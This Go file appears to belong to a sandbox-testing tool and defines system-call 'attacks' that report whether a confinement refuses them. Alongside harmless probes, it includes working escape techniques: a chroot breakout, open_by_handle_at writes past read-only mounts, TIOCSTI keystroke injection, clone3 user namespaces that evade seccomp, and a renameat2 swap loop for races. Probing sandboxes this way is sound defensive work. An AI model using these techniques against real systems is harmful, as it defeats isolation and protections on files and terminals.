package main

import (
	"encoding/binary"
	"errors"
	"io"
	"os"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// calls are the attacks that are one system call, or a few.
func calls() []attack {
	return []attack{
		{"uring", "", 0, uring},
		{"keyctl", "MARK", 1, keyring},
		{"userfaultfd", "", 0, faults},
		{"bpf", "", 0, bpfMap},
		{"perf", "", 0, perf},
		{"fsmount", "", 0, newMount},
		{"opentree", "PATH", 1, openTree},
		{"clone3", "", 0, cloneUser},
		{"chroot", "PATH", 1, leaveRoot},
		{"handle", "PATH ANCHOR TEXT", 3, byHandle},
		{"xattr", "PATH NAME", 2, xattr},
		{"flags", "PATH", 1, inodeFlags},
		{"tiocsti", "TEXT", 1, typeIn},
		{"shmput", "KEY TEXT", 2, shmPut},
		{"shmget", "KEY", 1, shmGet},
		{"shmrm", "KEY", 1, shmRemove},
		{"swap", "A B", 2, swap},
		{"swaps", "A B", 2, swaps},
	}
}

// call makes a system call and prints that it was not refused.
func call(out io.Writer, what string, number uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	fd, _, errno := unix.Syscall6(number, a[0], a[1], a[2], a[3], a[4], a[5])
	if errno != 0 {
		return errno
	}
	return errors.Join(reached(out, what), unix.Close(int(fd))) //nolint:gosec // a descriptor
}

func uring(out io.Writer, _ []string) error {
	params := make([]byte, 120)
	return call(out, "io_uring", unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params[0])))
}

// keyring adds a key to the ring of this process only.
func keyring(out io.Writer, args []string) error {
	if _, err := unix.AddKey("user", args[0], []byte("value"), unix.KEY_SPEC_PROCESS_KEYRING); err != nil {
		return err
	}
	return reached(out, "keyctl")
}

func faults(out io.Writer, _ []string) error {
	const userModeOnly = 1
	return call(out, "userfaultfd", unix.SYS_USERFAULTFD, userModeOnly|unix.O_CLOEXEC)
}

// bpfMap makes an array of one element.
func bpfMap(out io.Writer, _ []string) error {
	attr := make([]byte, 64)
	for i, v := range []uint32{unix.BPF_MAP_TYPE_ARRAY, 4, 4, 1} {
		binary.NativeEndian.PutUint32(attr[4*i:], v)
	}
	return call(out, "bpf", unix.SYS_BPF, unix.BPF_MAP_CREATE, uintptr(unsafe.Pointer(&attr[0])), uintptr(len(attr)))
}

// perf counts nothing, in user space, of this process.
func perf(out io.Writer, _ []string) error {
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_DUMMY, Bits: unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv}
	attr.Size = uint32(unsafe.Sizeof(attr))
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err != nil {
		return err
	}
	return errors.Join(reached(out, "perf"), unix.Close(fd))
}

// newMount makes a mount that is attached nowhere, by the calls that replace mount(2).
func newMount(out io.Writer, _ []string) error {
	fs, err := unix.Fsopen("tmpfs", unix.FSOPEN_CLOEXEC)
	if err != nil {
		return err
	}
	if err := unix.FsconfigCreate(fs); err != nil {
		return err
	}
	if _, err := unix.Fsmount(fs, unix.FSMOUNT_CLOEXEC, 0); err != nil {
		return err
	}
	return reached(out, "fsmount")
}

// openTree clones the mount of a path, as the first step to one without its flags.
func openTree(out io.Writer, args []string) error {
	fd, err := unix.OpenTree(unix.AT_FDCWD, args[0], unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_RECURSIVE)
	if err != nil {
		return err
	}
	_ = unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
	return errors.Join(reached(out, "open_tree"), unix.Close(fd))
}

// cloneUser makes a user namespace by clone3(2), whose flags lie in memory where no filter of system calls sees them.
func cloneUser(out io.Writer, _ []string) error {
	args := [11]uint64{unix.CLONE_NEWUSER, 0, 0, 0, uint64(unix.SIGCHLD)}
	pid, _, errno := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args[0])), unsafe.Sizeof(args), 0)
	if pid == 0 && errno == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	if errno != 0 {
		return errno
	}
	if _, err := unix.Wait4(int(pid), nil, 0, nil); err != nil { //nolint:gosec // a process
		return err
	}
	return reached(out, "clone3 with a user namespace")
}

// leaveRoot leaves a root directory as chroot(2) describes it, and makes a file at a path of the outer one.
func leaveRoot(_ io.Writer, args []string) error {
	dir, err := os.MkdirTemp(".", "root")
	if err != nil {
		return err
	}
	if err := unix.Chroot(dir); err != nil {
		return err
	}
	for range 64 {
		_ = unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return os.WriteFile(args[0], []byte("left the root\n"), 0o600)
}

// byHandle opens a file by its handle, through the mount of another path: the mount that made a file read-only is passed by. It prints
// the file and adds a text to it.
func byHandle(out io.Writer, args []string) error {
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, args[0], 0)
	if err != nil {
		return err
	}
	anchor, err := unix.Open(args[1], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	fd, err := unix.OpenByHandleAt(anchor, handle, unix.O_RDWR|unix.O_APPEND)
	if err != nil {
		return err
	}
	buf := make([]byte, 4096)
	n, _ := unix.Pread(fd, buf, 0)
	_, _ = out.Write(buf[:max(n, 0)])
	_, err = unix.Write(fd, []byte(args[2]))
	return err
}

func xattr(_ io.Writer, args []string) error {
	return unix.Lsetxattr(args[0], "user."+args[1], []byte("x"), 0)
}

// inodeFlags sets that a file is left out of dumps, over a descriptor that may only read.
func inodeFlags(_ io.Writer, args []string) error {
	const noDump = 0x40
	f, err := os.Open(args[0])
	if err != nil {
		return err
	}
	old, err := unix.IoctlGetInt(int(f.Fd()), unix.FS_IOC_GETFLAGS)
	if err != nil {
		return err
	}
	return errors.Join(unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, old|noDump), f.Close())
}

// typeIn puts a text into the input of the controlling terminal, as if a person had typed it.
func typeIn(_ io.Writer, args []string) error {
	tty, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	for _, b := range []byte(args[0]) {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, tty.Fd(), unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); errno != 0 {
			return errno
		}
	}
	return tty.Close()
}

// segment attaches the shared memory of a key.
func segment(key string, flags int) (id int, memory []byte, err error) {
	n, err := strconv.Atoi(key)
	if err != nil {
		return 0, nil, err
	}
	if id, err = unix.SysvShmGet(n, 4096, flags|0o600); err != nil {
		return 0, nil, err
	}
	memory, err = unix.SysvShmAttach(id, 0, 0)
	return id, memory, err
}

func shmPut(_ io.Writer, args []string) error {
	_, memory, err := segment(args[0], unix.IPC_CREAT)
	if err != nil {
		return err
	}
	copy(memory, args[1])
	return unix.SysvShmDetach(memory)
}

func shmGet(out io.Writer, args []string) error {
	_, memory, err := segment(args[0], 0)
	if err != nil {
		return err
	}
	_, err = io.WriteString(out, strings.TrimRight(string(memory), "\x00")+"\n")
	return errors.Join(err, unix.SysvShmDetach(memory))
}

func shmRemove(_ io.Writer, args []string) error {
	id, memory, err := segment(args[0], 0)
	if err != nil {
		return err
	}
	_, ctlErr := unix.SysvShmCtl(id, unix.IPC_RMID, nil)
	return errors.Join(ctlErr, unix.SysvShmDetach(memory))
}

// swap exchanges two paths by renameat2(2).
func swap(_ io.Writer, args []string) error {
	return unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE)
}

// swaps exchanges two paths again and again for a minute, and makes a file named started when it has begun.
func swaps(_ io.Writer, args []string) error {
	started := false
	for end := time.Now().Add(time.Minute); time.Now().Before(end); {
		if err := swap(nil, args); err != nil {
			return err
		}
		if !started {
			started = os.WriteFile("started", nil, 0o600) == nil
		}
		time.Sleep(200 * time.Microsecond)
	}
	return nil
}
